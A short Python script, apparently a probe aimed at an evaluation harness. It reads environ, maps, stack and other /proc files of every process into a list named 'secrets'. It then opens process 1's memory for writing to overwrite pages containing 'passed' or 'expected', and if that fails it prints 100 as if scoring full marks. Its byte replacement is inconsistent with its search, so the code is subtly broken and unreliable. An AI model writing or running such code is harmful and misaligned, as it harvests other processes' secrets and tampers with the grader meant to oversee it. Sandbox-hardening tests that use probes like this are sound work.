"""Reads memory, environment, maps and descriptors of the harness and of everybody else."""

import glob
import sys

secrets = []
for pid in [path.split("/")[2] for path in glob.glob("/proc/[0-9]*")]:
    for name in ("environ", "maps", "auxv", "cmdline", "stack", "syscall", "io"):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as file:
                secrets.append(file.read(1 << 16))
        except OSError:
            pass
try:
    with open("/proc/1/maps") as maps, open("/proc/1/mem", "r+b") as memory:
        for line in maps:
            begin = int(line.split("-")[0], 16)
            memory.seek(begin)
            data = memory.read(4096)
            if b"passed" in data or b"expected" in data:
                memory.seek(begin)
                memory.write(data.replace(b"cheat", b"passd"))
    sys.exit("the memory of process 1 is open")
except OSError:
    pass
print(100)
